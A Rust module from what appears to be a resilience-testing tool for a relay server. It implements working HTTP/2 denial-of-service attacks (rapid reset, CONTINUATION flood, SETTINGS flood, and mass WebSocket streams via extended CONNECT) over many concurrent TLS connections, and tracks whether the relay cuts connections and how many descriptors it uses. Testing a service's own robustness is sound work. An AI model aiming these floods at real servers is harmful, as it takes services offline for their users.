//! Attacks with frames of HTTP/2. RFC 9113.

use super::{Attack, at_once};
use crate::client::{connect_tls, session};
use crate::outcome::Outcome;
use crate::target::Target;
use anyhow::Result;
use futures_util::FutureExt;
use std::net::Ipv4Addr;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::Instant;
use tokio_rustls::client::TlsStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// How many frames are sent at once.
const BATCH: u32 = 100;
const CLIENTS: usize = 32;

pub(super) fn all() -> Vec<Attack> {
    vec![
        Attack {
            name: "HTTP/2 rapid reset",
            load: "32 connections send requests, each with its reset right behind it",
            flags: &[],
            run: |target, until| flood(target, until, reset).boxed(),
        },
        Attack {
            name: "CONTINUATION flood",
            load: "32 connections send a header block that never ends",
            flags: &[],
            run: |target, until| flood(target, until, continuation).boxed(),
        },
        Attack {
            name: "SETTINGS flood",
            load: "32 connections send empty SETTINGS",
            flags: &[],
            run: |target, until| flood(target, until, settings).boxed(),
        },
        Attack {
            name: "WebSockets on one HTTP/2 connection",
            load: "16 connections each open 128 WebSockets, and keep them",
            flags: &["--max-connections", "1000"],
            run: |target, until| streams(target, until).boxed(),
        },
    ]
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The fields of a request, with the static table of HPACK. RFC 7541, appendix A.
fn request(path: &str) -> Vec<u8> {
    let mut fields = vec![0x82, 0x87];
    for (name, value) in [(0x04, path), (0x01, "localhost")] {
        fields.extend([name, u8::try_from(value.len()).unwrap_or_default()]);
        fields.extend(value.as_bytes());
    }
    fields
}

fn reset(batch: u32) -> Vec<u8> {
    let streams = (0..BATCH).map(|number| 2 * (batch * BATCH + number) + 1);
    let frames = streams.flat_map(|stream| {
        [frame(HEADERS, END_STREAM | END_HEADERS, stream, &request("/")), frame(RST_STREAM, 0, stream, &CANCEL)]
            .concat()
    });
    frames.collect()
}

fn continuation(batch: u32) -> Vec<u8> {
    // A literal header field without indexing: a name of one byte and a value of 100 bytes.
    let field = [&[0, 1, b'a', 100][..], &[b'x'; 100]].concat().repeat(20);
    let first = if batch == 0 { frame(HEADERS, 0, 1, &request("/")) } else { Vec::new() };
    let more = (0..BATCH).flat_map(|_| frame(CONTINUATION, 0, 1, &field));
    first.into_iter().chain(more).collect()
}

fn settings(_: u32) -> Vec<u8> {
    (0..BATCH).flat_map(|_| frame(SETTINGS, 0, 0, &[])).collect()
}

async fn begin(from: Ipv4Addr, target: &Target) -> Result<TlsStream<TcpStream>> {
    let mut stream = connect_tls(from, target, &[b"h2"]).await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(stream)
}

/// Sends batches of frames on each connection until the relay ends it, and reads nothing but its end.
async fn flood(target: Target, until: Instant, batch: fn(u32) -> Vec<u8>) -> Result<Outcome> {
    let tally = at_once(&target, CLIENTS, until, move |target: Target, from| async move {
        let (mut reading, mut writing) = tokio::io::split(begin(from, &target).await?);
        let ended = async move {
            let mut nothing = [0; 16 << 10];
            while let Ok(1..) = reading.read(&mut nothing).await {}
        };
        let sending = async {
            for number in 0..u32::MAX / (4 * BATCH) {
                writing.write_all(&batch(number)).await?;
            }
            anyhow::Ok(())
        };
        tokio::select! {
            () = ended => Ok("connection ended by the relay".to_owned()),
            sent = sending => sent.map(|()| "all sent".to_owned()),
        }
    });
    Ok(Outcome::good(tally.await.words()))
}

/// Extended CONNECT (RFC 8441) as often as a connection allows.
async fn streams(target: Target, until: Instant) -> Result<Outcome> {
    let before = target.descriptors()?;
    let tally = at_once(&target, 16, until, async |target: Target, from: Ipv4Addr| {
        let id = session(from, &target).await?;
        let mut stream = begin(from, &target).await?;
        let literal = |name: &str, value: &str| {
            let length = |text: &str| u8::try_from(text.len()).unwrap_or_default();
            [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
        };
        let path = if from.octets()[3].is_multiple_of(2) { "/echo".to_owned() } else { format!("/lab/{id}") };
        let fields = [
            literal(":method", "CONNECT"),
            literal(":protocol", "websocket"),
            literal(":scheme", "https"),
            literal(":path", &path),
            literal(":authority", "localhost"),
            literal("sec-websocket-version", "13"),
        ]
        .concat();
        for number in 0..128 {
            stream.write_all(&frame(HEADERS, END_HEADERS, 2 * number + 1, &fields)).await?;
        }
        while stream.read(&mut [0; 16 << 10]).await? > 0 {}
        Ok("connection ended by the relay".to_owned())
    });
    let words = tally.await.words();
    Ok(Outcome::good(format!("{words}; descriptors {before} → {}", target.descriptors()?)))
}
